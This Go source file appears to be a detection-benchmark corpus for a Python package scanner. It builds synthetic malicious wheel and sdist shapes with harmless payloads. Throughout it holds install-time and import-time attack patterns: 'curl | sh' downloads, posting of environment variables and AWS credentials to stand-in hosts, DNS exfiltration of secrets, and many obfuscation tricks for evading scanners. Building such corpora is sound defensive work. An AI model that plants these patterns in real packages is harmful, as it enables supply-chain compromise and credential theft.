// Package malcorpus is the recall half of the detection benchmark: synthetic
// look-alikes of malicious package shapes — the incidents Airlock was built
// for and the evasions that walked around the line-based scanner — each
// built as a wheel and as an sdist. None does anything harmful: payloads
// are base64 of print(), URLs point nowhere. Never put real malware here.
package malcorpus

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"time"

	"airlock/internal/fakepypi"
)

// Shape is one malicious shape: files placed in the package (module path
// -> source), where an installer or an import would run them.
type Shape struct {
	Name string
	// Files go into the wheel as they are and into the sdist under its root
	// folder; "setup.py" only exists in the sdist variant.
	Files map[string]string
	// WheelOnly shapes cannot exist in an sdist (a .pth at the wheel root);
	// SdistOnly ones not in a wheel (setup.py).
	WheelOnly, SdistOnly bool
	// Nested adds a zip at this path holding NestedFiles.
	Nested      string
	NestedFiles map[string]string
}

const payload = "cHJpbnQoJ3N5bnRoZXRpYycp" // base64 of print('synthetic')

// Shapes are every shape the content check must hold.
var Shapes = []Shape{
	{Name: "litellm: .pth decoding and executing a payload", WheelOnly: true,
		Files: map[string]string{"pkg_init.pth": "import os, base64; exec(base64.b64decode('" + payload + "'))\n"}},
	{Name: "ultralytics: miner downloaded with wget at import",
		Files: map[string]string{"pkg/__init__.py": "import subprocess\nsubprocess.Popen(['wget', 'http://example.invalid/m', '-O', '/tmp/m'])\n"}},
	{Name: "lightning: downloader started at import",
		Files: map[string]string{"pkg/__init__.py": "import subprocess, urllib.request\nurllib.request.urlretrieve('http://example.invalid/d', '/tmp/d')\nsubprocess.Popen(['/tmp/d'])\n"}},
	{Name: "ctx: environment posted at import",
		Files: map[string]string{"pkg/__init__.py": "import os, base64, requests\nrequests.post('http://example.invalid', data=base64.b64encode(str(os.environ).encode()))\n"}},
	{Name: "torchtriton: bundled binary started at import",
		Files: map[string]string{"pkg/__init__.py": "import os, subprocess\nsubprocess.run([os.path.join(os.path.dirname(__file__), 'runtime')])\n"}},
	{Name: "setup.py downloads and runs at install", SdistOnly: true, Files: map[string]string{"pkg/__init__.py": "", "setup.py": "import os\nos.system('curl -s http://example.invalid/p | sh')\nfrom setuptools import setup\nsetup()\n"}},
	{Name: "payload in a class body",
		Files: map[string]string{"pkg/config.py": "import base64\n\nclass Settings:\n    debug = False\n    exec(base64.b64decode('" + payload + "'))\n"}},
	{Name: "exec by a concatenated name",
		Files: map[string]string{"pkg/__init__.py": "import base64, builtins\ngetattr(builtins, 'ex' + 'ec')(base64.b64decode('" + payload + "'))\n"}},
	{Name: "exec by a reversed name",
		Files: map[string]string{"pkg/__init__.py": "import builtins\nrun = getattr(builtins, 'cexe'[::-1])\nrun('x = 1')\n"}},
	{Name: "exec through globals()",
		Files: map[string]string{"pkg/__init__.py": "globals()['__builtins__']['exec']('x = 1')\n"}},
	{Name: "exec name from chr codes",
		Files: map[string]string{"pkg/__init__.py": "import builtins\ngetattr(builtins, ''.join(map(chr, [101, 120, 101, 99])))(\"print('synthetic')\")\n"}},
	{Name: "rot13 payload through codecs",
		Files: map[string]string{"pkg/__init__.py": "import codecs\nexec(codecs.decode('cevag(\"flagurgvp\")', 'rot13'))\n"}},
	{Name: "payload split over several lines",
		Files: map[string]string{"pkg/__init__.py": "import base64\nblob = (\n    'cHJpbnQoJ3N5'\n    'bnRoZXRpYycp'\n)\ncode = base64.b64decode(\n    blob\n)\nexec(\n    code\n)\n"}},
	{Name: "module name computed for __import__",
		Files: map[string]string{"pkg/__init__.py": "__import__('o' + 's').system('id')\n"}},
	{Name: "importlib with a computed name",
		Files: map[string]string{"pkg/__init__.py": "import importlib\nimportlib.import_module('sub' + 'process').Popen(['id'])\n"}},
	{Name: "cloud credentials read and sent",
		Files: map[string]string{"pkg/__init__.py": "import os, requests\ncreds = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('http://example.invalid', data=creds)\n"}},
	{Name: "downloaded code executed",
		Files: map[string]string{"pkg/__init__.py": "import urllib.request\nexec(urllib.request.urlopen('http://example.invalid/s').read())\n"}},
	{Name: "unpickling decoded data",
		Files: map[string]string{"pkg/__init__.py": "import pickle, base64\npickle.loads(base64.b64decode('Y2J1aWx0aW5zCnByaW50CihWc3ludGhldGljCnRSLg=='))\n"}},
	{Name: "spawn from a function called at import",
		Files: map[string]string{"pkg/__init__.py": "import subprocess\n\ndef _setup(\n    quiet=True,\n) -> None:\n    subprocess.Popen(['sh', '-c', 'id'])\n\n_setup()\n"}},
	{Name: "spawn in a decorator",
		Files: map[string]string{"pkg/__init__.py": "import os\n\ndef register(x):\n    return lambda f: f\n\n@register(os.system('id'))\ndef handler():\n    pass\n"}},
	{Name: "sitecustomize at the top level", WheelOnly: true, Files: map[string]string{"sitecustomize.py": "print('synthetic')\n"}},
	// Test code is informational (it runs under a test runner), so a
	// payload moves there and the package imports it.
	{Name: "payload in a tests module the package imports",
		Files: map[string]string{"pkg/__init__.py": "from pkg.tests import helper\n", "pkg/tests/__init__.py": "",
			"pkg/tests/helper.py": "import subprocess\nsubprocess.Popen(['sh', '-c', 'id'])\n"}},
	{Name: "payload two relative imports deep in testing code",
		Files: map[string]string{"pkg/__init__.py": "from .testing import (\n    fixtures,  # noqa\n)\n", "pkg/testing/__init__.py": "",
			"pkg/testing/fixtures.py": "from . import _data\n", "pkg/testing/_data.py": "import base64\nexec(base64.b64decode('" + payload + "'))\n"}},
	{Name: "test_ module loaded with importlib",
		Files: map[string]string{"pkg/__init__.py": "import importlib\n_support = importlib.import_module('.test_support', __name__)\n",
			"pkg/test_support.py": "import os, requests\nrequests.post('http://example.invalid', data=open(os.path.expanduser('~/.aws/credentials')).read())\n"}},
	{Name: "payload in a zip put on sys.path",
		Files:  map[string]string{"pkg/__init__.py": "import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), '_vendor.zip'))\nimport helper\n"},
		Nested: "pkg/_vendor.zip", NestedFiles: map[string]string{"helper/__init__.py": "import subprocess\nsubprocess.Popen(['sh', '-c', 'id'])\n"}},
	// Airlock must read the file Python runs.
	{Name: "code behind a lone CR, which ends a line for Python",
		Files: map[string]string{"pkg/__init__.py": "# configuration\rimport subprocess; subprocess.Popen(['sh', '-c', 'id'])\n"}},
	{Name: "coding: unicode_escape turns \\u000a in a comment into code",
		Files: map[string]string{"pkg/__init__.py": "# coding: unicode_escape\n# settings\\u000aimport base64; exec(base64.b64decode('" + payload + "'))\n"}},
	// Code one step from the top level, which Python runs at import.
	{Name: "spawn in a method called at import",
		Files: map[string]string{"pkg/__init__.py": "import subprocess\n\nclass Setup:\n    def go(self):\n        subprocess.Popen(['sh', '-c', 'id'])\n\nSetup().go()\n"}},
	{Name: "spawn in a base's __init_subclass__",
		Files: map[string]string{"pkg/__init__.py": "import subprocess\n\nclass Base:\n    def __init_subclass__(cls, **kw):\n        subprocess.Popen(['sh', '-c', 'id'])\n\nclass Plugin(Base):\n    pass\n"}},
	{Name: "spawn in a metaclass",
		Files: map[string]string{"pkg/__init__.py": "import subprocess\n\nclass Meta(type):\n    def __new__(mcs, *args):\n        subprocess.Popen(['sh', '-c', 'id'])\n        return type.__new__(mcs, *args)\n\nclass Model(metaclass=Meta):\n    pass\n"}},
	{Name: "spawn in a descriptor's __set_name__",
		Files: map[string]string{"pkg/__init__.py": "import subprocess\n\nclass Field:\n    def __set_name__(self, owner, name):\n        subprocess.Popen(['sh', '-c', 'id'])\n\nclass Model:\n    name = Field()\n"}},
	{Name: "spawn in a decorator used by name",
		Files: map[string]string{"pkg/__init__.py": "import subprocess\n\ndef register(f):\n    subprocess.Popen(['sh', '-c', 'id'])\n    return f\n\n@register\ndef handler():\n    pass\n"}},
	{Name: "spawn in a thread started at import",
		Files: map[string]string{"pkg/__init__.py": "import subprocess, threading\n\ndef work():\n    subprocess.Popen(['sh', '-c', 'id'])\n\nt = threading.Thread(target=work)\nt.start()\nt.join()\n"}},
	{Name: "spawn in an exit hook registered at import",
		Files: map[string]string{"pkg/__init__.py": "import atexit, subprocess\n\ndef bye():\n    subprocess.Popen(['sh', '-c', 'id'])\n\natexit.register(bye)\n"}},
	{Name: "spawn five calls deep",
		Files: map[string]string{"pkg/__init__.py": "import subprocess\n\ndef a():\n    b()\n\ndef b():\n    c()\n\ndef c():\n    d()\n\ndef d():\n    e()\n\ndef e():\n    subprocess.Popen(['sh', '-c', 'id'])\n\na()\n"}},
	// Code one module defines and another runs at import.
	{Name: "a function imported from a sibling module and called at import",
		Files: map[string]string{"pkg/__init__.py": "from ._boot import init\ninit()\n",
			"pkg/_boot.py": "import subprocess\n\ndef init():\n    subprocess.Popen(['sh', '-c', 'id'])\n"}},
	{Name: "a sibling's class started at import",
		Files: map[string]string{"pkg/__init__.py": "from pkg.service import Agent\n_agent = Agent()\n_agent.start()\n",
			"pkg/service.py": "import os\n\nclass Agent:\n    def start(self):\n        os.system('id')\n"}},
	{Name: "a function re-exported by a subpackage and called by a sibling at import",
		Files: map[string]string{"pkg/__init__.py": "from . import config\n", "pkg/utils/__init__.py": "from ._net import fetch_defaults as defaults\n",
			"pkg/utils/_net.py": "import base64, urllib.request\n\ndef fetch_defaults():\n    exec(base64.b64decode(urllib.request.urlopen('http://example.invalid/c').read()))\n",
			"pkg/config.py":     "from .utils import defaults\ndefaults()\n"}},
	{Name: "setup.py calls the package's own build helper", SdistOnly: true,
		Files: map[string]string{"pkg/__init__.py": "", "pkg/_build.py": "import os\n\ndef prepare():\n    os.system('curl -s http://example.invalid/p | sh')\n",
			"setup.py": "import os, sys\nsys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))\nfrom setuptools import setup\nfrom pkg._build import prepare\nprepare()\nsetup(name='corpus', version='1.0')\n"}},
	{Name: "a shared library shipped in the package and loaded with ctypes at import",
		Files: map[string]string{"pkg/__init__.py": "import ctypes, os\n_h = ctypes.CDLL(os.path.join(os.path.dirname(__file__), '_speedups.so'))\n",
			"pkg/_speedups.so": "\x7fELF\x02\x01\x01\x00synthetic"}},
	// Build-time code outside setup.py's top level.
	{Name: "an in-tree build backend whose build_wheel starts a process", SdistOnly: true,
		Files: map[string]string{"pkg/__init__.py": "",
			"pyproject.toml":    "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n",
			"_build/backend.py": "import subprocess\n\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    subprocess.Popen(['sh', '-c', 'id'])\n    return 'corpus-1.0-py3-none-any.whl'\n"}},
	{Name: "a hatchling custom build hook that downloads", SdistOnly: true,
		Files: map[string]string{"pkg/__init__.py": "",
			"pyproject.toml": "[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n\n[tool.hatch.build.hooks.custom]\n",
			"hatch_build.py": "import os\nfrom hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\nclass CustomBuildHook(BuildHookInterface):\n    def initialize(self, version, build_data):\n        os.system('curl -s http://example.invalid/p | sh')\n"}},
	{Name: "a pdm-backend build hook that starts a process", SdistOnly: true,
		Files: map[string]string{"pkg/__init__.py": "",
			"pyproject.toml": "[build-system]\nrequires = [\"pdm-backend\"]\nbuild-backend = \"pdm.backend\"\n",
			"pdm_build.py":   "import subprocess\n\ndef pdm_build_initialize(context):\n    subprocess.run(['sh', '-c', 'id'])\n"}},
	{Name: "a file setup.py reads and executes at build", SdistOnly: true,
		Files: map[string]string{"pkg/__init__.py": "",
			"setup.py":      "import os\nfrom setuptools import setup\nhere = os.path.dirname(os.path.abspath(__file__))\nexec(open(os.path.join(here, 'tools', 'meta.py')).read())\nsetup(name='corpus', version='1.0')\n",
			"tools/meta.py": "import os\nos.system('id')\n"}},
	{Name: "a cmdclass whose run() downloads", SdistOnly: true,
		Files: map[string]string{"pkg/__init__.py": "", "setup.py": "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.egg_info import egg_info\n\nclass Info(egg_info):\n    def run(self):\n        subprocess.Popen(['sh', '-c', 'curl -s http://example.invalid/p | sh'])\n        egg_info.run(self)\n\nsetup(name='corpus', version='1.0', cmdclass={'egg_info': Info})\n"}},
	{Name: "a .pth installed as a data file into site-packages", WheelOnly: true,
		Files: map[string]string{"corpus-1.0.data/data/lib/python3.11/site-packages/pkg_init.pth": "import os, base64; exec(base64.b64decode('" + payload + "'))\n"}},
	// Interpreters of source run at import, whatever they are handed.
	{Name: "exec of a plain string literal",
		Files: map[string]string{"pkg/__init__.py": "exec(\"print('synthetic')\")\n"}},
	{Name: "eval of a reversed string literal",
		Files: map[string]string{"pkg/__init__.py": "eval(\")'citehtnys'(tnirp\"[::-1])\n"}},
	{Name: "runpy runs a data file that is Python",
		Files: map[string]string{"pkg/__init__.py": "import os, runpy\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'data.bin'))\n", "pkg/data.bin": "print('synthetic')\n"}},
	{Name: "timeit runs its statement",
		Files: map[string]string{"pkg/__init__.py": "import timeit\ntimeit.timeit(\"print('synthetic')\", number=1)\n"}},
	{Name: "code.InteractiveInterpreter runs source",
		Files: map[string]string{"pkg/__init__.py": "import code\ncode.InteractiveInterpreter().runsource(\"print('synthetic')\")\n"}},
	{Name: "pickle of a bytes literal",
		Files: map[string]string{"pkg/__init__.py": "import pickle\npickle.loads(b'cbuiltins\\nprint\\n(Vsynthetic\\ntR.')\n"}},
	{Name: "exec handed to map",
		Files: map[string]string{"pkg/__init__.py": "list(map(exec, [\"print('synthetic')\"]))\n"}},
	{Name: "exec looked up in builtins.__dict__",
		Files: map[string]string{"pkg/__init__.py": "import builtins\nbuiltins.__dict__.get('exec')(\"print('synthetic')\")\n"}},
	{Name: "subprocess reached through sys.modules",
		Files: map[string]string{"pkg/__init__.py": "import sys, subprocess\nsys.modules['subprocess'].Popen(['sh', '-c', 'id'])\n"}},
	{Name: "credentials read through pathlib's / and posted",
		Files: map[string]string{"pkg/__init__.py": "import pathlib, requests\ncreds = (pathlib.Path.home() / '.aws' / 'credentials').read_text()\nrequests.post('http://example.invalid', data=creds)\n"}},
	{Name: "a secret sent out in a DNS lookup",
		Files: map[string]string{"pkg/__init__.py": "import os, socket\nsocket.gethostbyname(os.environ.get('AWS_SECRET_ACCESS_KEY', 'none') + '.example.invalid')\n"}},
	{Name: "a hand-written XOR decoder in front of exec",
		Files: map[string]string{"pkg/__init__.py": "_k = 42\n_d = b'ZXCD^\\x02\\rYSD^BO^CI\\r\\x03'\nexec(bytes(b ^ _k for b in _d).decode())\n"}},
	{Name: "eval of a name built from pieces, then exec",
		Files: map[string]string{"pkg/__init__.py": "run = eval('ex' + 'ec')\nrun(\"print('synthetic')\")\n"}},
	// Names computed on a module other than builtins, and names Python
	// reads NFKC-normalized: shapes the analysis followed but its word
	// screen let through unparsed.
	{Name: "os.system through getattr with a concatenated name",
		Files: map[string]string{"pkg/__init__.py": "import os\ngetattr(os, 'sys' + 'tem')('echo synthetic')\n"}},
	{Name: "os.system through getattr with a name lowered from capitals",
		Files: map[string]string{"pkg/__init__.py": "import os\nrun = getattr(os, 'SYSTEM'.lower())\nrun('echo synthetic')\n"}},
	{Name: "os.system through vars() of the module",
		Files: map[string]string{"pkg/__init__.py": "import os\nvars(os)['sys' + 'tem']('echo synthetic')\n"}},
	{Name: "os.system through the module's __dict__",
		Files: map[string]string{"pkg/__init__.py": "import os\nos.__dict__['metsys'[::-1]]('echo synthetic')\n"}},
	{Name: "a process module found in sys.modules by a computed name",
		Files: map[string]string{"pkg/__init__.py": "import sys, os\ngetattr(sys.modules['o' + 's'], 'po' + 'pen')('echo synthetic')\n"}},
	{Name: "a credential path folded from pieces and posted",
		Files: map[string]string{"pkg/__init__.py": "import pathlib, requests\np = pathlib.Path.home() / ('.a' + 'ws') / ('cred' + 'entials')\nrequests.post('http://example.invalid', data=p.read_text())\n"}},
	{Name: "exec written in full-width letters",
		Files: map[string]string{"pkg/__init__.py": "import base64\n\uff45\uff58\uff45\uff43(base64.b64decode('" + payload + "'))\n"}},
	{Name: "os.system written in full-width letters",
		Files: map[string]string{"pkg/__init__.py": "import os\nos.\uff53\uff59\uff53\uff54\uff45\uff4d('echo synthetic')\n"}},
	{Name: "sourceless bytecode imported instead of a module", WheelOnly: true,
		Files: map[string]string{"pkg/__init__.py": "from . import helper\n", "pkg/helper.pyc": "\xcb\x0d\x0d\x0a\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\xe3code"}},
	{Name: "unchecked hash-based bytecode beside a clean source", WheelOnly: true,
		Files: map[string]string{"pkg/__init__.py": "x = 1\n", "pkg/__pycache__/__init__.cpython-312.pyc": "\xcb\x0d\x0d\x0a\x01\x00\x00\x00hashhash\xe3code"}},
}

// Variants builds the forms the shape can take, by kind ("wheel",
// "sdist"): what every consumer of the corpus iterates.
func (s Shape) Variants() map[string]func() (string, []byte) {
	out := map[string]func() (string, []byte){}
	if !s.SdistOnly {
		out["wheel"] = s.Wheel
	}
	if !s.WheelOnly {
		out["sdist"] = s.Sdist
	}
	return out
}

// Wheel builds the shape as a wheel of project "corpus".
func (s Shape) Wheel() (string, []byte) {
	extra := map[string]string{}
	for p, src := range s.Files {
		if p != "setup.py" {
			extra[p] = src
		}
	}
	if s.Nested != "" {
		extra[s.Nested] = string(zipOf(s.NestedFiles))
	}
	fn, data, _ := fakepypi.BuildWheel(fakepypi.WheelSpec{Name: "corpus", Version: "1.0", Extra: extra})
	return fn, data
}

// Sdist builds the shape as a tar.gz sdist of project "corpus".
func (s Shape) Sdist() (string, []byte) {
	files := map[string]string{"PKG-INFO": "Metadata-Version: 2.1\nName: corpus\nVersion: 1.0\n",
		"pyproject.toml": "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n"}
	for p, src := range s.Files {
		files[p] = src
	}
	if s.Nested != "" {
		files[s.Nested] = string(zipOf(s.NestedFiles))
	}
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for p, body := range files {
		tw.WriteHeader(&tar.Header{Name: "corpus-1.0/" + p, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg, ModTime: time.Unix(0, 0)})
		tw.Write([]byte(body))
	}
	tw.Close()
	gz.Close()
	return "corpus-1.0.tar.gz", buf.Bytes()
}

func zipOf(files map[string]string) []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for p, body := range files {
		w, _ := zw.Create(p)
		w.Write([]byte(body))
	}
	zw.Close()
	return buf.Bytes()
}
